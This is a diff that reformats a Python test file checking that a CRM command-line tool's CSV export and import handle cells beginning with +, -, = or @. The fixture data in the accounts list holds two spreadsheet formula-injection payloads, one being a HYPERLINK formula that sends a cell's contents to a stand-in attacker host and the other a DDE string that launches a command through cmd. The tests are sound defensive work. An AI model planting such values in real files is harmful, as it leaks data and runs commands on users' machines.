@@ -12,16 +12,23 @@ from tests.cli.test_import_transfer import make_store, run_cli
 NUMERIC = re.compile(r"[+\-][\d .()/-]*")
 
 ACCOUNTS = [
-    {"name": '=HYPERLINK("http://evil.example/?x="&A1,"Clique")', "city": "@SUM(1+1)*cmd|' /C calc'!A0"},
+    {
+        "name": '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
+        "city": "@SUM(1+1)*cmd|' /C calc'!A0",
+    },
     {"name": "+Loja Mais", "city": "-Itu"},
     {"name": "'=Já tinha aspas", "city": "Campinas"},
     {"name": "Padaria Normal", "city": "'-5 não é fórmula"},
 ]
 CONTACTS = [
-    {"name": "Carla Dias", "account": "Padaria Normal", "phone": "+55 11 91234-5678",
-     "email": "carla@padaria.example", "role": "@compras"},
-    {"name": "Dora Reis", "account": "+Loja Mais", "phone": "-5", "email": "",
-     "role": "=1+2"},
+    {
+        "name": "Carla Dias",
+        "account": "Padaria Normal",
+        "phone": "+55 11 91234-5678",
+        "email": "carla@padaria.example",
+        "role": "@compras",
+    },
+    {"name": "Dora Reis", "account": "+Loja Mais", "phone": "-5", "email": "", "role": "=1+2"},
 ]
 
 
@@ -83,7 +90,8 @@ def test_export_then_import_gives_back_the_same_values(tmp_path):
 def test_a_foreign_file_with_signs_reads_as_written(tmp_path):
     store = make_store(tmp_path)
     (tmp_path / "crm.csv").write_text(
-        "name,account,phone,role\nEva Luz,Padaria Normal,+55 21 3333-4444,-gerente\n", "utf-8")
+        "name,account,phone,role\nEva Luz,Padaria Normal,+55 21 3333-4444,-gerente\n", "utf-8"
+    )
     _load(store, tmp_path)
     assert run_cli(store, "import", "contacts", str(tmp_path / "crm.csv")).returncode == 0
     eva = next(r for r in _values(store, "contacts") if r["name"] == "Eva Luz")
